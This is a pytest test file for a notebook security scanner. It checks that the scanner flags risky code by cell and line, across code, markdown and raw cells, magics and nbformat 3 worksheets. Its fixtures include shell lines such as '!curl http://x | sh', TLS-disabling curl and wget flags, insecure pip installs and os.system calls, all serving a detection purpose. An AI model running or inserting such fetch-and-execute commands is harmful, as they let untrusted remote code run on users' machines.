"""Notebooks: weaknesses with the cell and the line, magics included, outputs not."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelward.artifact.around import notebook
from modelward.artifact.reading import Reading
from modelward.artifact.verdict import inspect_bytes


def book(*cells, **more):
    made = [{"cell_type": "code", "source": cell, "outputs": [], "metadata": {}} for cell in cells]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more}).encode()


def found(data):
    report = inspect_bytes(data, "n.ipynb")
    assert (report.format, report.verdict) == ("notebook", None)
    return [(f.rule.removeprefix("source."), f.message.split(":")[0]) for f in report.findings]


def test_a_weakness_has_its_cell_and_line():
    data = book("import pickle\n", "x = 1\n\npickle.load(f)")
    assert found(data) == [("unpickles", "cell 2, line 3")]


def test_names_are_known_across_cells():
    assert found(book("import torch as t", "t.load('x', weights_only=False)")) == [
        ("torch-load", "cell 2, line 1")
    ]


def test_a_source_may_be_a_list_of_lines():
    assert found(book(["import pickle\n", "pickle.load(f)"])) == [("unpickles", "cell 1, line 2")]


def test_other_cells_count_and_hold_no_code():
    data = json.loads(book("import pickle\npickle.load(f)"))
    data["cells"].insert(0, {"cell_type": "markdown", "source": "pickle.load(f)\n!curl x | sh"})
    data["cells"].insert(1, {"cell_type": "raw", "source": "pickle.load(f)"})
    assert found(json.dumps(data).encode()) == [("unpickles", "cell 3, line 2")]


def test_outputs_are_not_code():
    data = json.loads(book("x = 1"))
    data["cells"][0]["outputs"] = [{"text": "import pickle\npickle.load(f)"}]
    assert found(json.dumps(data).encode()) == []


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("!curl http://x | sh", "runs-download"),
        ("!!curl http://x | sh", "runs-download"),
        ("if a: pass\n!wget --no-check-certificate https://x", "tls-disabled"),
        ("out = !curl -k https://x", "tls-disabled"),
        ("%pip install http://x/y.whl", "pip-insecure"),
        ("!pip install --trusted-host x y", "pip-insecure"),
        ("%system curl -k https://x", "tls-disabled"),
    ],
)
def test_shell_magic(line, rule):
    text = f"a = 1\n{line}\nb = 2"
    assert found(book(text)) == [(rule, f"cell 1, line {text.count(chr(10))}")]


@pytest.mark.parametrize("first", ["%%bash", "%%sh", "%%script bash", "\n%%bash"])
def test_shell_cell(first):
    lines = first.count("\n") + 2
    assert found(book(f"{first}\ncurl http://x | sh")) == [("runs-download", f"cell 1, line {lines}")]


def test_magics_do_not_break_the_rest():
    text = (
        "%matplotlib inline\n%load_ext x\nimport pickle\nfiles = !ls\n?help\nif x:\n    !ls\npickle.load(f)"
    )
    assert found(book(text)) == [("unpickles", "cell 1, line 8")]


def test_a_timed_cell_is_python_and_one_of_another_language_is_not():
    assert found(book("%%time\nimport pickle\npickle.load(f)")) == [("unpickles", "cell 1, line 3")]
    assert found(book("%%html\n<b>pickle.load(f)</b>\n<script>")) == []


def test_modulo_is_no_magic():
    assert found(book("import pickle\nx = (10\n  % 3)\ny = a != b\npickle.load(f)")) == [
        ("unpickles", "cell 1, line 5")
    ]


def test_a_payload_is_a_finding():
    assert found(book("import os\nos.system('id')")) == [("payload", "cell 1, line 2")]


def test_version_3_has_worksheets():
    cells = [{"cell_type": "code", "input": ["import pickle\n", "pickle.load(f)"]}]
    data = {"worksheets": [{"cells": cells}], "nbformat": 3, "nbformat_minor": 0, "metadata": {}}
    assert found(json.dumps(data).encode()) == [("unpickles", "cell 1, line 2")]


@pytest.mark.parametrize(
    "text",
    [
        "{",
        "[]",
        "3",
        '{"cells": 3}',
        '{"cells": [3, {"cell_type": "code"}]}',
        '{"worksheets": [1]}',
        "[" * 50_000,
    ],
)
def test_a_damaged_notebook_has_no_verdict(text):
    into = Reading("n.ipynb")
    notebook.read(text.encode(), into)
    assert all(event.level == "note" for event in into.events)


def test_cells_that_do_not_parse_are_said():
    assert found(book("def f(:")) == [("unparsed", "the cells are not analysed")]


def test_too_large_a_notebook_is_said(monkeypatch):
    monkeypatch.setattr(notebook, "LARGEST", 10)
    assert found(book("x = 1")) == [("unread", inspect_bytes(book("x = 1"), "n.ipynb").findings[0].message)]


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["cells", "source", "cell_type", "input", "worksheets", "code"]),
            inner,
            max_size=4,
        )
    ),
    max_leaves=20,
)


@given(JSON)
@settings(max_examples=200, deadline=None)
def test_any_json_is_read(value):
    notebook.read(json.dumps(value).encode(), Reading("n.ipynb"))


@given(st.lists(st.text(max_size=60), max_size=5))
@settings(max_examples=100, deadline=None)
def test_any_cells_are_read(cells):
    notebook.read(book(*cells), Reading("n.ipynb"))
